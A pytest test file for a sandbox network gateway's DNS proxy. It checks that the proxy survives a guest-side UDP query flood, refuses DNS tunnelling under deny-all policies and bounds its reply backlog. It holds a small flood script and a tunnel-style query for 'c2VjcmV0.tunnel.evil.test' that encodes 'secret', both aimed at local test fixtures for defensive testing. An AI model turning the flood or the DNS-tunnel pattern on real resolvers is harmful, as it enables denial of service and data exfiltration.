"""Attacks on the gateway's DNS proxy: exhausting the host process with a query flood, and resolving
names through the proxy that the policy never lets any flow reach (DNS as a tunnel).

Upstream resolvers here are UDP sockets on 127.0.0.1 that the test owns."""

from __future__ import annotations

import asyncio
import contextlib
import os
import re
import struct
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import pytest_asyncio
from dnslib import QTYPE, RCODE, RR, A, DNSRecord

import capsa
from capsa import Gateway, NetworkPolicy, VirtualNetwork
from capsa.net import link as link_module
from capsa.net.dns import DnsProxy, PinTable
from capsa.net.packets import ETH_IPV4, PROTO_UDP, Ethernet, IPv4, Udp
from capsa.net.policy import Action, All, Domain, Port, Proto
from capsa.net.stack import GATEWAY_MAC, NetworkStack
from tests.conftest import SandboxFactory

ANSWER = "203.0.113.9"  # never connected to, only handed out


class Resolver(asyncio.DatagramProtocol):
    """Answers names under ``answer.test`` (and ``x.test``) with :data:`ANSWER`; every other
    question is swallowed, like an upstream that never answers."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        query = DNSRecord.parse(data)
        name = str(query.q.qname).rstrip(".").lower()
        self.asked.append(name)
        if not (name.endswith(".answer.test") or name == "x.test"):
            return
        reply = query.reply()
        reply.add_answer(RR(query.q.qname, QTYPE.A, rdata=A(ANSWER), ttl=60))
        self.transport.sendto(reply.pack(), addr)  # type: ignore[attr-defined]


@pytest_asyncio.fixture
async def resolver() -> AsyncIterator[tuple[Resolver, int]]:
    loop = asyncio.get_running_loop()
    transport, protocol = await loop.create_datagram_endpoint(Resolver, local_addr=("127.0.0.1", 0))
    yield protocol, transport.get_extra_info("sockname")[1]
    transport.close()


def open_fds() -> int:
    return len(os.listdir("/proc/self/fd"))


def rss_kib() -> int:
    status = Path("/proc/self/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+)", status).group(1))  # type: ignore[union-attr]


@dataclass
class Peaks:
    fds: int = 0
    tasks: int = 0
    rss_kib: int = 0

    async def watch(self) -> None:
        while True:
            self.fds = max(self.fds, open_fds())
            self.tasks = max(self.tasks, len(asyncio.all_tasks()))
            self.rss_kib = max(self.rss_kib, rss_kib())
            await asyncio.sleep(0.005)


# The guest floods the gateway with raw UDP questions for distinct allowed names, then asks for a
# name the upstream does answer, retrying once a second until it resolves (or 30 s pass).
FLOOD = r"""
import socket, struct, sys, time
def question(name, ident):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)
gateway = ("10.0.2.1", 53)
flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
count, sent, started = int(sys.argv[1]), 0, time.monotonic()
for i in range(count):
    try:
        flood.sendto(question("n%d.flood.test" % i, i & 0xFFFF), gateway)
        sent += 1
    except OSError:
        time.sleep(0.001)
print("sent", sent, round(time.monotonic() - started, 2), flush=True)
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.settimeout(1)
deadline = time.monotonic() + 30
while time.monotonic() < deadline:
    probe.sendto(question("ok.answer.test", 4242), gateway)
    try:
        data = probe.recv(512)
    except socket.timeout:
        continue
    ident, flags, _, answers = struct.unpack("!HHHH", data[:8])
    if ident == 4242 and flags & 0xF == 0 and answers:
        print("resolved", socket.inet_ntoa(data[-4:]), round(time.monotonic() - started, 2))
        break
    time.sleep(0.5)
else:
    print("unresolved")
"""

QUERIES = 4000
FD_MARGIN = 16  # the proxy's upstream sockets (at most 4), plus whatever else the process opens
TASK_MARGIN = 64 + 32  # the proxy's cap on questions in flight, plus the agent's own


@pytest.mark.vm
@pytest.mark.asyncio
@pytest.mark.timeout(180)
async def test_query_flood_keeps_host_fds_and_tasks_bounded(
    resolver: tuple[Resolver, int], sandbox_factory: SandboxFactory
) -> None:
    """Attack: the guest floods the gateway with thousands of questions for names under an allowed
    wildcard whose upstream never answers, to make the host open one socket and one task per
    question until it runs out of file descriptors and memory. The host must stay within a fixed
    bound, answer the excess with SERVFAIL, and resolve normally afterwards."""
    server, port = resolver
    policy = NetworkPolicy.deny_all().allow_domain("*.flood.test").allow_domain("*.answer.test")
    gateway = Gateway("10.0.2.0/24").policy(policy).dns_servers([f"127.0.0.1:{port}"])
    vm = await sandbox_factory(
        capsa.sandbox().memory_mb(256).network(VirtualNetwork.with_gateway(gateway))
    )
    await vm.agent.exec("true").timeout(30).run()  # settle: the agent's first exec is done
    before_fds, before_tasks, before_rss = open_fds(), len(asyncio.all_tasks()), rss_kib()
    peaks = Peaks(before_fds, before_tasks, before_rss)
    watcher = asyncio.create_task(peaks.watch())
    try:
        result = await vm.agent.exec("python3").args(["-c", FLOOD, str(QUERIES)]).timeout(120).run()
    finally:
        watcher.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await watcher
    after_fds = open_fds()
    log = vm.network.log()
    servfails = sum(1 for e in log if e.proto == "dns" and e.action == "servfail")
    print(
        f"DNS flood: {result.stdout.strip()!r}; host fds before {before_fds}, peak {peaks.fds}, "
        f"after {after_fds}; tasks before {before_tasks}, peak {peaks.tasks}; RSS KiB before "
        f"{before_rss}, peak {peaks.rss_kib}; upstream saw {len(server.asked)} questions; "
        f"{servfails} SERVFAIL"
    )
    assert result.exit_code == 0, result.stderr
    assert f"resolved {ANSWER}" in result.stdout, result.stdout
    assert peaks.fds - before_fds <= FD_MARGIN, (before_fds, peaks.fds)
    assert peaks.tasks - before_tasks <= TASK_MARGIN, (before_tasks, peaks.tasks)
    assert after_fds - before_fds <= FD_MARGIN
    assert servfails > 0  # the excess was refused, not queued


def ask(name: str) -> bytes:
    return bytes(DNSRecord.question(name, "A").pack())


@pytest.mark.asyncio
async def test_icmp_only_policy_resolves_no_name(resolver: tuple[Resolver, int]) -> None:
    """Attack: with a policy that allows only ICMP (which the NAT never forwards), encode data in
    DNS questions and let the proxy carry them to an upstream resolver: a tunnel out of a VM
    that may not reach anything. The proxy must answer NXDOMAIN without asking upstream."""
    server, port = resolver
    for policy in (
        NetworkPolicy.deny_all().allow_protocol("icmp"),
        NetworkPolicy.deny_all().allow_protocol("dns"),
        NetworkPolicy.deny_all().rule(Action.ALLOW, All(Domain("x.test"), Proto("icmp"))),
    ):
        proxy = DnsProxy(policy, [("127.0.0.1", port)], PinTable(), timeout=0.5)
        for name in ("x.test", "c2VjcmV0.tunnel.evil.test", "ok.answer.test"):
            reply = await proxy.handle(ask(name))
            assert reply is not None
            assert DNSRecord.parse(reply).header.rcode == RCODE.NXDOMAIN, (policy, name)
        proxy.close()
    assert server.asked == []


@pytest.mark.asyncio
async def test_denying_one_port_keeps_the_name_resolvable(resolver: tuple[Resolver, int]) -> None:
    """Surprise, not attack: denying ``x.test`` on port 25 only (then allowing everything) must not
    make ``x.test`` unresolvable for every other port."""
    server, port = resolver
    policy = NetworkPolicy.allow_all().rule(Action.DENY, All(Domain("x.test"), Port(25)))
    proxy = DnsProxy(policy, [("127.0.0.1", port)], PinTable(), timeout=1.0)
    reply = await proxy.handle(ask("x.test"))
    assert reply is not None
    assert [str(r.rdata) for r in DNSRecord.parse(reply).rr] == [ANSWER]
    assert server.asked == ["x.test"]
    proxy.close()


def _dns_frame(stack: NetworkStack, index: int) -> bytes:
    guest, gateway = stack.guest_ip, stack.gateway.gateway_ip
    question = ask(f"n{index}.{'x' * 60}.{'y' * 60}.{'z' * 60}.denied.test")  # long replies
    packet = IPv4.build(guest, gateway, PROTO_UDP, Udp.build(guest, gateway, 40000, 53, question))
    frame = Ethernet.build(GATEWAY_MAC, stack.guest_mac, ETH_IPV4, packet)
    return struct.pack("!I", len(frame)) + frame


@pytest.mark.asyncio
@pytest.mark.timeout(60)
async def test_replies_to_a_guest_that_does_not_read_stay_bounded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack (a fake guest on the link socket, as QEMU would connect): flood the gateway with
    questions and never read the link, so that the host queues one reply per question in its
    own memory without end. Replies beyond a fixed backlog must be dropped (UDP may lose them).
    The bound is lowered from its default (4 MiB) to keep the flood short."""
    bound = 64 << 10
    monkeypatch.setattr(link_module, "MAX_BACKLOG", bound)
    gateway = Gateway("10.0.2.0/24").policy(NetworkPolicy.deny_all()).dns_servers(["127.0.0.1:9"])
    stack = NetworkStack(gateway)
    await stack.start(tmp_path / "net.sock")
    _, link = await asyncio.open_unix_connection(str(tmp_path / "net.sock"))
    try:
        for start in range(0, 6_000, 500):
            link.write(b"".join(_dns_frame(stack, i) for i in range(start, start + 500)))
            await link.drain()
        await asyncio.sleep(0.5)
        answered = sum(1 for e in stack.log() if e.proto == "dns")
        assert stack.link.connected  # the link QEMU would hold
        backlog = stack.link.backlog()
        print(f"questions handled {answered}, reply backlog {backlog} bytes")
        assert answered >= 5_000  # the flood did reach the proxy
        assert backlog <= bound + 512, backlog
    finally:
        link.close()
        await asyncio.sleep(0.1)  # the stack sees the link close, as when QEMU exits
        await stack.close()
